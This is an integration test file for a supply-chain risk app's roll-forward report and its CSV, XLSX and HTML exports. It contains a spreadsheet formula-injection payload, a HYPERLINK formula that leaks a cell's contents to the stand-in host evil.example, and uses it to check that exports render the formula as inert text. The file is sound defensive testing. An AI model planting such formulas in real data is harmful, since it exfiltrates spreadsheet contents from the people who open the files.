import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { EVENT_STORE, riskMovementsIn, SettableClock } from '@dd/engine';
import type { EventStore } from '@dd/event-store';
import { deleteEvents } from '@dd/event-store/testing';
import { allProjections, replayAsOf, RiskRegisterQueries } from '@dd/projections';
import Database from 'better-sqlite3';
import ExcelJS from 'exceljs';
import { riskRollForward } from '@dd/reports';
import { seedDemoYear } from '../apps/cli/src/demo/seed-demo-year';
import { RunningApi } from './support/running-api';
import { runCli } from './support/run-cli';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const HOSTILE_REASON = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the RMI notice")';

interface Fetched {
  status: number;
  contentType: string;
  disposition: string;
  vary: string;
  bytes: Buffer;
}

/** Reads a CSV file the way a spreadsheet would, with exceljs's CSV parser; cells as text. */
async function csvRows(bytes: Buffer): Promise<string[][]> {
  expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  const sheet = await new ExcelJS.Workbook().csv.read(Readable.from([bytes.subarray(3)]), { map: (value: unknown) => value });
  const rows: string[][] = [];
  sheet.eachRow({ includeEmpty: true }, (row) => rows.push((row.values as string[]).slice(1).map((cell) => cell ?? '')));
  return rows;
}

async function workbook(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as unknown as ArrayBuffer);
  return book;
}

const sheetRows = (sheet: ExcelJS.Worksheet) => {
  const rows: unknown[][] = [];
  sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
};

/**
 * The demo year (period 2024, written in 2025), then two more years of risk work: a risk raised and
 * one closed in 2026, another closed in 2027. The roll-forward of 2025-2027 carries the open risks
 * across the years and reconciles; the read endpoints give CSV and XLSX by ?format= or Accept.
 */
describe('the risk roll-forward and spreadsheet exports, over real HTTP', () => {
  const clock = new SettableClock('2025-01-01T00:00:00.000Z');
  let api: RunningApi;
  let flaggedRiskId: string;

  const fetchRaw = async (path: string, headers: Record<string, string> = {}): Promise<Fetched> => {
    const response = await fetch(`${api.started.url}${path}`, { headers });
    return {
      status: response.status,
      contentType: response.headers.get('content-type') ?? '',
      disposition: response.headers.get('content-disposition') ?? '',
      vary: response.headers.get('vary') ?? '',
      bytes: Buffer.from(await response.arrayBuffer()),
    };
  };
  const json = async (path: string) => {
    const response = await api.get(path);
    if (response.status !== 200) throw new Error(`GET ${path}: ${response.status} ${JSON.stringify(response.body)}`);
    return response.body;
  };

  beforeAll(async () => {
    api = await RunningApi.start({ engine: { clock, escalationIntervalMs: 0, reminderIntervalMs: 0 } });
    const demo = await seedDemoYear(api.started.app, clock, 2024);
    const supplierId = demo.risks.find((risk) => risk.supplierId)!.supplierId!;

    clock.set('2026-02-01T09:00:00.000Z');
    const flagged = await api.post('FlagNonConflictFree', { supplierId, period: 2026, metal: 'gold', reason: HOSTILE_REASON });
    expect(flagged.status).toBe(201);
    flaggedRiskId = flagged.body.streamId.replace(/^risk-/, '');
    clock.set('2026-06-01T09:00:00.000Z');
    const grievance = demo.risks.find((risk) => risk.category === 'grievance')!;
    expect(
      (
        await api.post('CloseRisk', {
          riskId: grievance.riskId,
          resolution: 'moved-to-conflict-free-sources',
          note: 'the supplier changed refiner',
        })
      ).status,
    ).toBe(201);
    clock.set('2027-03-01T09:00:00.000Z');
    const nonResponse = demo.risks.find((risk) => risk.category === 'non-response')!;
    expect(
      (
        await api.post('CloseRisk', {
          riskId: nonResponse.riskId,
          resolution: 'moved-to-conflict-free-sources',
          note: 'the supplier answered and changed source',
        })
      ).status,
    ).toBe(201);
  }, 180_000);

  let stopped = false;
  afterAll(async () => {
    if (!stopped) await api.stop();
    api.removeData();
  });

  describe('GET /reports/roll-forward', () => {
    it('given three years of risk work, when rolled forward, then each year ends where the next begins and every line adds up', async () => {
      const { years } = await json('/reports/roll-forward?years=2025,2026,2027');

      expect(years.map((year: { year: number }) => year.year)).toEqual([2025, 2026, 2027]);
      const [y2025, y2026, y2027] = years;
      expect(y2025.total.beginning).toBe(0);
      expect(y2025.total.additions).toBeGreaterThan(2);
      expect(y2026.total).toMatchObject({ beginning: y2025.total.end, additions: 1, deductions: 1, end: y2025.total.end });
      expect(y2027.total).toMatchObject({ beginning: y2026.total.end, additions: 0, deductions: 1, end: y2026.total.end - 1 });
      expect(y2025.total.end).toBeGreaterThan(0);
      for (const year of years) {
        for (const line of [...year.rows, year.total]) {
          expect(line.beginning + line.additions + line.other - line.deductions).toBe(line.end);
        }
      }
    });

    it("answers from the risk register's histories exactly what the log's own movements give", async () => {
      const store = api.started.app.get<symbol, EventStore>(EVENT_STORE);
      const fromLog = riskRollForward(await riskMovementsIn(store), [2025, 2026, 2027]);
      expect(await json('/reports/roll-forward?years=2025,2026,2027')).toEqual(JSON.parse(JSON.stringify(fromLog)));
    });

    it('ends each year with exactly the risks the register shows open on December 31 (replayed by business time)', async () => {
      const { years } = await json('/reports/roll-forward?years=2025,2026,2027');
      const store = api.started.app.get<symbol, EventStore>(EVENT_STORE);
      for (const year of years) {
        const db = await replayAsOf(store, allProjections, { occurredUntil: `${year.year}-12-31` });
        try {
          const risks = new RiskRegisterQueries(db);
          const open = [2024, 2026].flatMap((period) => risks.list({ period })).filter((risk) => risk.status !== 'closed');
          expect({ year: year.year, open: open.length }).toEqual({ year: year.year, open: year.total.end });
        } finally {
          db.close();
        }
      }
    });

    it('prints the Schedule II exhibit as text, with the deduction in parentheses and nil as a dash', async () => {
      const text = await fetchRaw('/reports/roll-forward?years=2025,2026,2027&format=text');

      expect(text.status).toBe(200);
      expect(text.contentType).toBe('text/plain; charset=utf-8');
      const body = text.bytes.toString('utf8');
      expect(body).toMatch(/^SCHEDULE II\nROLL-FORWARD OF THE RISK REGISTER\n/);
      const grievance2026 = body
        .split('Year ended December 31, 2026:')[1]
        .split('\n')
        .find((line) => line.startsWith('  Grievance'))!;
      expect(grievance2026.trim().split(/\s+/).slice(1)).toEqual(['1', '—', '—', '(1)', '—']);
    });

    it('answers CSV to Accept: text/csv, with the same figures as the JSON', async () => {
      const csv = await fetchRaw('/reports/roll-forward?years=2025,2026,2027', { accept: 'text/csv' });
      const { years } = await json('/reports/roll-forward?years=2025,2026,2027');

      expect(csv.contentType).toBe('text/csv; charset=utf-8');
      expect(csv.disposition).toBe('attachment; filename="risk-roll-forward-2025-2026-2027.csv"');
      expect(csv.vary).toMatch(/Accept/i);
      const rows = await csvRows(csv.bytes);
      expect(rows[0].slice(0, 3)).toEqual(['Year', 'Risk category', 'Balance at beginning of period']);
      const totals = rows.filter((row) => row[1] === 'Total').map((row) => row.slice(0, 7).map(Number));
      expect(totals).toEqual(
        years.map((year: any) => [
          year.year,
          NaN,
          year.total.beginning,
          year.total.additions,
          0,
          0 - year.total.deductions,
          year.total.end,
        ]),
      );
    });

    it('gives a self-contained HTML page for format=html, and refuses years that are not years, naming the parameter', async () => {
      const html = await fetchRaw('/reports/roll-forward?years=2025,2026&format=html');
      expect(html.contentType).toBe('text/html; charset=utf-8');
      expect(html.bytes.toString('utf8')).toContain('<h2>Totals, years side by side</h2>');

      const refused = await api.get('/reports/roll-forward?years=2025,next');
      expect(refused.status).toBe(400);
      expect(refused.body.errors).toEqual([{ path: 'years[1]', message: 'not a year: next' }]);
    });
    const chromium = '/usr/bin/chromium';
    (existsSync(chromium) ? it : it.skip)(
      'renders the HTML exhibit in a real browser without console errors (screenshot in docs/roll-forward.png)',
      async () => {
        const html = (await fetchRaw('/reports/roll-forward?years=2025,2026,2027&format=html')).bytes.toString('utf8');
        const { chromium: launcher } = await import('playwright-core');
        const browser = await launcher.launch({
          executablePath: chromium,
          args: [
            '--headless',
            '--no-sandbox',
            '--disable-gpu',
            '--disable-quic',
            '--no-first-run',
            '--disable-background-networking',
            '--disable-component-update',
            '--disable-sync',
          ],
        });
        try {
          const page = await browser.newPage({ viewport: { width: 1100, height: 900 } });
          const problems: string[] = [];
          page.on('console', (message) => void (message.type() === 'error' && problems.push(message.text())));
          page.on('pageerror', (error) => void problems.push(error.message));
          page.on('request', (request) => void (request.url().startsWith('data:') || problems.push(`fetched ${request.url()}`)));
          await page.setContent(html, { waitUntil: 'load' });

          expect(await page.locator('table.schedule tbody').count()).toBe(3);
          expect(await page.locator('table.side-by-side tr.total td.figure').allTextContents()).toEqual(
            (await json('/reports/roll-forward?years=2025,2026,2027')).years.map((year: any) => String(year.total.end)),
          );
          expect(problems).toEqual([]);
          await page.screenshot({ path: join(__dirname, '..', 'docs', 'roll-forward.png'), fullPage: true });
        } finally {
          await browser.close();
        }
      },
      120_000,
    );
  });

  describe('exports of the read endpoints', () => {
    it('gives the risk register as CSV for ?format=csv: a row per risk, headers in the domain’s words, a hostile reason made inert', async () => {
      const csv = await fetchRaw('/risk-register?period=2026&format=csv');

      expect(csv.status).toBe(200);
      expect(csv.disposition).toBe('attachment; filename="risk-register-2026.csv"');
      const rows = await csvRows(csv.bytes);
      expect(rows[0].slice(0, 10)).toEqual([
        'Risk id',
        'Period',
        'Supplier',
        'Metal',
        'Smelter (RMI id)',
        'Category',
        'Severity',
        'Severity when raised',
        'Status',
        'Reason',
      ]);
      expect(rows).toHaveLength(2);
      expect(rows[1][0]).toBe(flaggedRiskId);
      expect(rows[1][9]).toBe(`'${HOSTILE_REASON}`);
    });

    it('gives the risk register as XLSX to the spreadsheet media type in Accept: the same risks as the JSON, the hostile reason as text', async () => {
      const xlsx = await fetchRaw('/risk-register?period=2024', { accept: XLSX });
      const risks = await json('/risk-register?period=2024');

      expect(xlsx.contentType).toBe(XLSX);
      expect(xlsx.disposition).toBe('attachment; filename="risk-register-2024.xlsx"');
      const rows = sheetRows((await workbook(xlsx.bytes)).getWorksheet('Risk register')!);
      expect(rows.slice(1).map((row) => row[0])).toEqual(risks.map((risk: any) => risk.riskId));
      expect(rows.slice(1).map((row) => row[8])).toEqual(risks.map((risk: any) => risk.status));

      const hostile = sheetRows((await workbook((await fetchRaw('/risk-register?period=2026&format=xlsx')).bytes)).worksheets[0]);
      expect(hostile[1][9]).toBe(`'${HOSTILE_REASON}`);
    });

    it('gives the smelter annex: smelters by metal with RMI id, name, country and RMAP status', async () => {
      const smelters = await json('/smelters?period=2024');
      const rows = sheetRows((await workbook((await fetchRaw('/smelters?period=2024&format=xlsx')).bytes)).getWorksheet('Smelter annex')!);

      expect(rows[0].slice(0, 5)).toEqual(['Metal', 'Smelter (RMI id)', 'Smelter name', 'Country', 'RMAP status']);
      expect(rows).toHaveLength(smelters.length + 1);
      const metals = rows.slice(1).map((row) => row[0]);
      expect(metals).toEqual(
        [...metals].sort(
          (a, b) => ['tantalum', 'tin', 'gold', 'tungsten'].indexOf(String(a)) - ['tantalum', 'tin', 'gold', 'tungsten'].indexOf(String(b)),
        ),
      );
      const first = smelters.find((smelter: any) => smelter.smelterId === rows[1][1]);
      expect(rows[1].slice(0, 5)).toEqual([
        first.metal,
        first.smelterId,
        first.standardName,
        first.country ?? undefined,
        first.rmapStatus ?? 'not enrolled',
      ]);
    });

    it('gives the survey status with findings and follow-ups, in three sheets', async () => {
      const surveys = await json('/surveys?period=2024');
      const book = await workbook((await fetchRaw('/surveys?period=2024', { accept: `text/html;q=0.5, ${XLSX}` })).bytes);

      expect(book.worksheets.map((sheet) => sheet.name)).toEqual(['Survey status', 'Findings', 'Follow-ups']);
      const status = sheetRows(book.getWorksheet('Survey status')!);
      expect(status.slice(1).map((row) => [row[0], row[4]])).toEqual(surveys.map((survey: any) => [survey.supplierId, survey.status]));
      const findings = surveys.flatMap((survey: any) => survey.latestFindings);
      const followUps = surveys.flatMap((survey: any) => survey.followUps);
      expect(findings.length).toBeGreaterThan(0);
      expect(followUps.length).toBeGreaterThan(0);
      expect(sheetRows(book.getWorksheet('Findings')!)).toHaveLength(findings.length + 1);
      expect(sheetRows(book.getWorksheet('Follow-ups')!)).toHaveLength(followUps.length + 1);
    });

    it('gives the audit trail of a period with each payload as the JSON the log holds', async () => {
      const page = await json('/audit-trail?period=2024&include=data&limit=50');
      const rows = await csvRows((await fetchRaw('/audit-trail?period=2024&include=data&limit=50&format=csv')).bytes);

      expect(rows[0]).toContain('Payload (JSON)');
      const payload = rows[0].indexOf('Payload (JSON)');
      expect(rows.slice(1).map((row) => row[12])).toEqual(page.items.map((item: any) => item.eventId));
      expect(rows.slice(1).map((row) => JSON.parse(row[payload].replace(/^'/, '')))).toEqual(page.items.map((item: any) => item.data));
    });

    it('answers JSON without Accept, to */*, and to format=json; 406 when Accept allows nothing it has; 400 naming format for a format it has not', async () => {
      expect((await fetchRaw('/risk-register?period=2024')).contentType).toMatch(/^application\/json/);
      expect((await fetchRaw('/risk-register?period=2024', { accept: '*/*' })).contentType).toMatch(/^application\/json/);
      expect((await fetchRaw('/risk-register?period=2024&format=json', { accept: 'text/csv' })).contentType).toMatch(/^application\/json/);

      const notAcceptable = await api.get('/risk-register?period=2024', { accept: 'application/xml' });
      expect(notAcceptable.status).toBe(406);
      const pdf = await api.get('/risk-register?period=2024&format=pdf');
      expect(pdf.status).toBe(400);
      expect(pdf.body.errors).toEqual([{ path: 'format', message: 'one of json, csv, xlsx' }]);
      const jsonOnly = await api.get('/oecd-status?period=2024&format=csv');
      expect(jsonOnly.status).toBe(400);
      expect(jsonOnly.body.errors).toEqual([{ path: 'format', message: '/oecd-status answers JSON only (format=json)' }]);
    });

    const soffice = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find((path) => existsSync(path));
    (soffice ? it : it.skip)(
      'opens in LibreOffice: the exported XLSX converts to CSV there, the hostile reason still text',
      async () => {
        const dir = mkdtempSync(join(tmpdir(), 'dd-soffice-'));
        try {
          const file = join(dir, 'risk-register-2026.xlsx');
          writeFileSync(file, (await fetchRaw('/risk-register?period=2026&format=xlsx')).bytes);
          execFileSync(
            soffice!,
            [`-env:UserInstallation=file://${dir}/profile`, '--headless', '--convert-to', 'csv', '--outdir', dir, file],
            { stdio: 'pipe', timeout: 120_000 },
          );
          expect(readdirSync(dir)).toContain('risk-register-2026.csv');
          const converted = readFileSync(join(dir, 'risk-register-2026.csv'), 'utf8');
          expect(converted.split('\n')[0]).toMatch(/^Risk id,Period,Supplier,/);
          expect(converted).toContain(flaggedRiskId);
          // Still the text we wrote, not a formula LibreOffice evaluated (which would have left its result).
          expect(converted).toContain(`'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open the RMI notice"")`);
        } finally {
          rmSync(dir, { recursive: true, force: true });
        }
      },
      150_000,
    );
  });

  describe('from the CLI, on the same data directory', () => {
    let env: Record<string, string>;
    let out: string;

    beforeAll(async () => {
      await api.stop();
      stopped = true;
      env = { DD_DATA_DIR: api.dataDir, DD_EVENT_STORE: 'sqlite' };
      out = mkdtempSync(join(tmpdir(), 'dd-exports-'));
    });

    afterAll(() => rmSync(out, { recursive: true, force: true }));

    it('exports the risk register as XLSX to a file', async () => {
      const file = join(out, 'risks.xlsx');
      const run = await runCli(['export', 'risk-register', '--period', '2026', '--format', 'xlsx', '--out', file], env);

      expect(run).toMatchObject({ exitCode: 0, stderr: '' });
      expect(run.stdout).toMatch(/^wrote .*risks\.xlsx: risk-register of 2026, 1 row\(s\), XLSX/);
      const rows = sheetRows((await workbook(readFileSync(file))).worksheets[0]);
      expect(rows.map((row) => row[0])).toEqual(['Risk id', flaggedRiskId]);
    });

    it('exports the whole audit trail of a period, every page, as CSV', async () => {
      const file = join(out, 'trail.csv');
      const run = await runCli(['export', 'audit-trail', '--period', '2024', '--format', 'csv', '--out', file], env);

      expect(run.exitCode).toBe(0);
      const rows = await csvRows(readFileSync(file));
      const positions = rows.slice(1).map((row) => Number(row[0]));
      expect(positions.length).toBeGreaterThan(50);
      expect(positions).toEqual([...positions].sort((a, b) => a - b));
      expect(new Set(rows.slice(1).map((row) => row[8]))).toEqual(new Set(['2024']));
    });

    it('writes the roll-forward as the API gives it, and refuses an unknown format or export by name', async () => {
      const file = join(out, 'roll-forward.csv');
      const run = await runCli(['report', 'roll-forward', '--years', '2025,2026,2027', '--format', 'csv', '--out', file], env);
      expect(run.exitCode).toBe(0);
      const rows = await csvRows(readFileSync(file));
      expect(rows.filter((row) => row[1] === 'Total').map((row) => row.slice(2, 7).map(Number))).toEqual([
        [0, 5, 0, 0, 5],
        [5, 1, 0, -1, 5],
        [5, 0, 0, -1, 4],
      ]);

      const pdf = await runCli(['report', 'roll-forward', '--years', '2025', '--format', 'pdf'], env);
      expect(pdf).toMatchObject({ exitCode: 1, stderr: '--format: one of text, html, csv, xlsx (not pdf)' });
      const unknown = await runCli(['export', 'suppliers', '--period', '2024', '--out', join(out, 'x.csv')], env);
      expect(unknown).toMatchObject({
        exitCode: 1,
        stderr: '<what>: one of risk-register, smelter-annex, survey-status, audit-trail (not suppliers)',
      });
    });

    it('given a log that lost the event raising a risk later closed, when rolled forward, then it says so and exits 1, writing nothing', async () => {
      const file = join(api.dataDir, 'events.sqlite');
      const db = new Database(file, { readonly: true });
      const raised = db
        .prepare(
          "SELECT global_position AS position, json_extract(data, '$.riskId') AS riskId FROM events WHERE type = 'RiskRaised' AND json_extract(data, '$.category') = 'grievance'",
        )
        .get() as { position: number; riskId: string };
      db.close();
      deleteEvents(file, [raised.position]);
      const report = join(out, 'broken.txt');

      const run = await runCli(['report', 'roll-forward', '--years', '2025,2026,2027', '--out', report], env);

      expect(run.exitCode).toBe(1);
      expect(run.stderr).toContain(`cannot place ${raised.riskId}`);
      expect(existsSync(report)).toBe(false);
    });
  });
});
